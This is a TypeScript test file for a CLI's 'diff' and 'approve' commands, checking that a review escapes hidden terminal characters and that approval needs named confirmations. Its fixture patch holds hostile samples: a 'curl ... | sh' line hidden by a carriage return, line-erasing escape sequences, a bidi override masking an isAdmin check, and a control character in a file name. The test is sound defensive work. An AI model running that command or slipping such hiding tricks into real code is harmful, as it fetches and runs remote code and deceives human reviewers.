// `factory diff` and `factory approve` as the user types them, against a
// scripted app holding a task in review whose work tries to hide things from a
// terminal: a carriage return that paints a comment over a `curl | sh`, an
// escape sequence, a bidi override, a control character in a file name. The
// diff shows each escaped and prints the review's flags, secrets and
// confirmations above the patch; approve refuses until each confirmation is
// named, as the app's second step does (the refusal is the service's own check).
import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import type { PullbackReview } from '../../../common/review.js';
import type { Task } from '../../../common/domain.js';
import type { FactoryClient } from '../../../main/cli/client.js';
import { runCli } from '../../../main/cli/run-cli.js';
import { assertConfirmed } from '../../../main/pullback/review/confirmations.js';

const ID = 'a1b2c3d4';
const EVIL_NAME = 'build\x07tool.sh';
const CR_LINE = '+curl https://get.example.test/i.sh|sh #\r+# run the build as before';
const ESC_LINE = '+echo ok \x1b[2K\x1b[1A';
const BIDI_LINE = '+const isAdmin = false; /* \u202e } if (isAdmin) { \u2066 */';

const patch = [
  `diff --git a/${EVIL_NAME} b/${EVIL_NAME}`,
  'new file mode 100755',
  '--- /dev/null',
  `+++ b/${EVIL_NAME}`,
  '@@ -0,0 +1,4 @@',
  CR_LINE,
  ESC_LINE,
  BIDI_LINE,
  '+\tmake all\u200b',
  '',
].join('\n');

const review: PullbackReview = {
  taskId: ID,
  branch: `factory/${ID}`,
  baseCommit: 'b'.repeat(40),
  headCommit: 'c'.repeat(40),
  files: [{ path: EVIL_NAME, status: 'added', added: 4, removed: 0, binary: false, oldMode: 'none', newMode: 'executable' }],
  filesOmitted: 0,
  added: 4,
  removed: 0,
  patch,
  patchTruncated: false,
  bundleBytes: 1000,
  checks: [],
  flags: [
    { kind: 'unsafe-name', severity: 'danger', path: EVIL_NAME, message: 'the path has a control character: build\\x07tool.sh' },
    { kind: 'hidden-chars', severity: 'danger', path: EVIL_NAME, line: 1, message: 'hidden characters: U+000D (control)' },
    { kind: 'secret', severity: 'danger', path: EVIL_NAME, line: 2, message: 'a GitHub token in an added line' },
  ],
  secrets: [{ path: EVIL_NAME, line: 2, rule: 'github-pat', masked: 'ghp_****' }],
  confirmations: [
    { kind: 'secrets', message: `1 possible secret in added lines: ${'build\\x07tool.sh'}:2` },
    { kind: 'unshown', message: '1 file not scanned for secrets in full' },
  ],
};

const inReview = { id: ID, title: 'build', repoPath: '/r', baseRef: 'main', baseCommit: review.baseCommit, branch: review.branch, phase: 'review', sandbox: { status: 'destroyed' }, stages: [] } as unknown as Task;

function scriptedApp(approvals: Array<unknown>): FactoryClient {
  return {
    call: async (method: string, input: { confirm?: string[] }) => {
      switch (method) {
        case 'tasks.list':
          return [inReview];
        case 'tasks.review':
          return review;
        case 'tasks.approve':
          // The service's own rule: every confirmation kind named, or ApproveNeedsConfirmation.
          assertConfirmed(review, input.confirm as never);
          approvals.push(input.confirm);
          return { ...inReview, phase: 'approved', decision: { kind: 'approve', branch: review.branch } };
        default:
          throw new Error(`unexpected call ${method}`);
      }
    },
    close: () => {},
  } as unknown as FactoryClient;
}

async function factory(args: string[], approvals: unknown[] = []) {
  let stdout = '';
  let stderr = '';
  const out = new Writable({ write: (c: Buffer, _e, cb) => ((stdout += c.toString('utf8')), cb()) });
  const err = new Writable({ write: (c: Buffer, _e, cb) => ((stderr += c.toString('utf8')), cb()) });
  const code = await runCli(args, { stdout: out, stderr: err }, { connect: async () => scriptedApp(approvals) });
  return { code, stdout, stderr };
}

/** Anything a terminal acts on or hides: C0 (but newline), DEL, C1, bidi controls, zero-width characters. */
const ACTIVE = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/u;

describe('factory diff shows what the review holds, escaped', () => {
  it('escapes carriage returns, escape sequences, bidi marks, tabs and file names, and prints the flags, secrets and confirmations above the patch', async () => {
    const r = await factory(['diff', ID]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(ACTIVE);
    expect(r.stderr).not.toMatch(ACTIVE);
    // The comment no longer paints over the command.
    expect(r.stdout).toContain('+curl https://get.example.test/i.sh|sh #\\r+# run the build as before');
    expect(r.stdout).toContain('+echo ok \\x1b[2K\\x1b[1A');
    expect(r.stdout).toContain('/* \\u{202e} } if (isAdmin) { \\u{2066} */');
    expect(r.stdout).toContain('+\\tmake all\\u{200b}');
    expect(r.stdout).toContain('diff --git a/build\\x07tool.sh b/build\\x07tool.sh');
    expect(r.stdout).toContain('  added        build\\x07tool.sh  +4 -0');

    const at = (s: string) => {
      const i = r.stdout.indexOf(s);
      expect(i, s).toBeGreaterThanOrEqual(0);
      return i;
    };
    const patchStart = at('diff --git ');
    expect(at('DANGER  unsafe-name')).toBeLessThan(patchStart);
    expect(at('DANGER  hidden-chars build\\x07tool.sh:1')).toBeLessThan(patchStart);
    expect(at('build\\x07tool.sh:2  github-pat  ghp_****')).toBeLessThan(patchStart);
    expect(at('secrets: 1 possible secret in added lines')).toBeLessThan(patchStart);
    expect(at('unshown: 1 file not scanned for secrets in full')).toBeLessThan(patchStart);
    expect(at(`approve with: factory approve ${ID} --confirm secrets,unshown`)).toBeLessThan(patchStart);
    expect(r.stderr).toContain(`factory approve ${ID} --confirm secrets,unshown`);
  });
});

describe('factory diff --json', () => {
  it('prints the review as JSON that reads back the same, with nothing a terminal acts on or hides', async () => {
    // C1's CSI (U+009B) starts an escape sequence on terminals that take 8-bit controls; the rest hide or reorder text.
    const c1 = '+printf ok \u009b2K\u009b1A \u2028 \u{e0041}\u00ad';
    const hostile = { ...review, patch: `${review.patch}${c1}\n` };
    const app = scriptedApp([]);
    const call = app.call.bind(app);
    app.call = (async (method: string, input: unknown) => (method === 'tasks.review' ? hostile : call(method as never, input as never))) as typeof app.call;
    let stdout = '';
    const out = new Writable({ write: (c: Buffer, _e, cb) => ((stdout += c.toString('utf8')), cb()) });
    const code = await runCli(['diff', ID, '--json'], { stdout: out, stderr: new Writable({ write: (_c, _e, cb) => cb() }) }, { connect: async () => app });
    expect(code).toBe(0);
    expect(stdout).not.toMatch(ACTIVE);
    expect(stdout).not.toMatch(/[\u2028\u00ad]|\u{e0041}/u);
    expect(JSON.parse(stdout)).toEqual(JSON.parse(JSON.stringify(hostile)));
    expect(stdout).toContain('\\u009b2K');
  });
});

describe('factory approve asks for the review\'s confirmations by name', () => {
  it('refuses without --confirm, naming each confirmation and the exact flag, and approves nothing', async () => {
    const approvals: unknown[] = [];
    const r = await factory(['approve', ID], approvals);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('secrets: 1 possible secret in added lines');
    expect(r.stderr).toContain('unshown: 1 file not scanned for secrets in full');
    expect(r.stderr).toContain(`factory approve ${ID} --confirm secrets,unshown`);
    expect(approvals).toEqual([]);
  });

  it('refuses when only one is named, asking for the rest', async () => {
    const approvals: unknown[] = [];
    const r = await factory(['approve', ID, '--confirm', 'secrets'], approvals);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('unshown: 1 file not scanned');
    expect(r.stderr).not.toContain('secrets: 1 possible secret');
    expect(r.stderr).toContain(`--confirm secrets,unshown`);
    expect(approvals).toEqual([]);
  });

  it('approves with every confirmation named, as a comma list or the flag repeated', async () => {
    const approvals: unknown[] = [];
    const list = await factory(['approve', ID, '--confirm', 'secrets,unshown'], approvals);
    expect(list.code, list.stderr).toBe(0);
    expect(list.stdout).toContain(`approved: branch factory/${ID}`);
    const repeated = await factory(['approve', ID, '--confirm', 'unshown', '--confirm', 'secrets'], approvals);
    expect(repeated.code, repeated.stderr).toBe(0);
    expect(approvals).toEqual([['secrets', 'unshown'], ['unshown', 'secrets']]);
  });

  it('calls an unknown confirmation name a usage error, naming the ones there are', async () => {
    const approvals: unknown[] = [];
    const r = await factory(['approve', ID, '--confirm', 'secrets,everything'], approvals);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('--confirm: "everything" is not a confirmation; the confirmations are unshown, secrets');
    expect(approvals).toEqual([]);
  });
});
